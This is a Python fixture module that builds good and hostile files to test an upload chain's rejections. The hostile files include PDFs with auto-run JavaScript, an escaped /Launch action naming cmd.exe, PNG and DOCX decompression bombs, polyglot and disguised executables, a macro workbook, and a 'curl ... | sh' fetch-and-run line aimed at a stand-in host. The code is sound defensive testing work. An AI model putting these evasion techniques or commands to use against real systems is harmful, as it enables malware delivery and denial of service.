"""Real files, good and hostile, built byte by byte or with the libraries that read them (no
tests of its own): every refusal of the upload chain is tested against one of these."""

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def pdf(pages: int = 1) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(width=420, height=595)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def encrypted_pdf() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=420, height=595)
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="AES-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_javascript_open_action() -> bytes:
    """A PDF that runs JavaScript when opened (/OpenAction << /S /JavaScript /JS (...) >>)."""
    writer = PdfWriter()
    writer.add_blank_page(width=420, height=595)
    action = DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject("app.alert('pwned');"),
        }
    )
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_document_javascript() -> bytes:
    """A PDF with a document-level script in the /Names tree, run when the file opens."""
    writer = PdfWriter()
    writer.add_blank_page(width=420, height=595)
    action = writer._add_object(
        DictionaryObject(
            {
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hello');"),
            }
        )
    )
    scripts = DictionaryObject(
        {NameObject("/Names"): ArrayObject([TextStringObject("init"), action])}
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(scripts)}
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_launch_action_obfuscated() -> bytes:
    """A hand-written PDF whose OpenAction launches a program, the action name hidden behind
    #-escapes (/L#61unch), which a byte search for "/Launch" would miss."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] >>",
        b"<< /S /L#61unch /F (cmd.exe) >>",
    ]
    return _hand_pdf(objects)


def pdf_with_embedded_file() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=420, height=595)
    writer.add_attachment("payload.txt", b"not a paper")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _hand_pdf(objects: list[bytes]) -> bytes:
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1))
    out.write(b"startxref\n%d\n%%%%EOF\n" % xref)
    return out.getvalue()


def truncated_pdf() -> bytes:
    data = pdf(pages=3)
    return data[: len(data) // 2]


def _image(kind: str, size=(320, 240), mode="RGB", **options) -> bytes:
    image = Image.new(mode, size)
    # Some detail, so that the compressed data is not trivially short.
    for x in range(0, size[0], 7):
        for y in range(0, size[1], 5):
            image.putpixel((x, y), (x % 256, y % 256, (x * y) % 256) if mode == "RGB" else 255)
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def jpeg() -> bytes:
    return _image("JPEG", quality=90)


def png() -> bytes:
    return _image("PNG")


def tiff() -> bytes:
    return _image("TIFF", compression="tiff_lzw")


def truncated_jpeg() -> bytes:
    data = jpeg()
    return data[: len(data) * 2 // 3]


def _chunk(kind: bytes, body: bytes) -> bytes:
    return (
        struct.pack(">I", len(body))
        + kind
        + body
        + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
    )


def png_bomb(width: int = 12_000, height: int = 12_000) -> bytes:
    """A valid 1-bit PNG of 144 million pixels that weighs a few kilobytes: decoding it would
    take hundreds of megabytes of memory."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _row in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", body)
        + _chunk(b"IEND", b"")
    )


def elf_named_pdf() -> bytes:
    """The first bytes of a 64-bit Linux program (it would be uploaded as "hoso.pdf")."""
    header = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + struct.pack("<HHI", 2, 0x3E, 1)
    return header + b"\x00" * 200


def windows_program() -> bytes:
    """A PE file's DOS header and stub."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 56)
    dos[0x3C:0x40] = struct.pack("<I", 0x80)
    stub = b"\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
    return (
        bytes(dos) + stub + b"\x00" * (0x80 - len(dos) - len(stub)) + b"PE\x00\x00" + b"\x00" * 64
    )


def pdf_hiding_a_program() -> bytes:
    """A good PDF with a Windows program appended after it (a polyglot)."""
    return pdf() + windows_program()


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def _zip(members: dict[str, bytes], compression=zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


_DOCX_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    b'relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    b'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_DOCX_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_DOCX_BODY = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Đơn đề nghị</w:t></w:r></w:p></w:body></w:document>"
).encode()


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    return _zip(
        {
            "[Content_Types].xml": _DOCX_TYPES,
            "_rels/.rels": _DOCX_RELS,
            "word/document.xml": _DOCX_BODY,
            **(extra or {}),
        }
    )


def docx_bomb(megabytes: int = 8) -> bytes:
    return docx({"word/media/image1.bin": b"\x00" * (megabytes * 1_048_576)})


def xlsx() -> bytes:
    from openpyxl import Workbook

    workbook = Workbook()
    workbook.active["A1"] = "Bảng kê"
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def xlsx_with_macros() -> bytes:
    """A workbook carrying a VBA project (xl/vbaProject.bin), as a .xlsm renamed .xlsx."""
    source = zipfile.ZipFile(io.BytesIO(xlsx()))
    members = {name: source.read(name) for name in source.namelist()}
    members["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512
    return _zip(members)


def plain_zip() -> bytes:
    return _zip({"to-khai.pdf": pdf(), "anh.jpg": jpeg()})


def zip_with_program() -> bytes:
    return _zip({"to-khai.pdf": pdf(), "setup.exe": windows_program()})


def rar_header() -> bytes:
    return b"Rar!\x1a\x07\x01\x00" + b"\x00" * 64


def old_word_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 1024


def pdf_with_orphan_javascript() -> bytes:
    """A script object that nothing references: readers that rebuild the cross-reference
    table still find and may run it."""
    return _hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] >>",
            b"<< /S /JavaScript /JS (app.launchURL\\('http://example.invalid'\\);) >>",
        ]
    )


def pdf_whose_image_data_spells_js() -> bytes:
    """A good PDF whose (binary) stream data happens to contain the bytes "/JS": no script."""
    data = b"\x00\x01/JS\x02\xff" * 4
    return _hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 420 595] /Contents 4 0 R >>",
            b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
        ]
    )
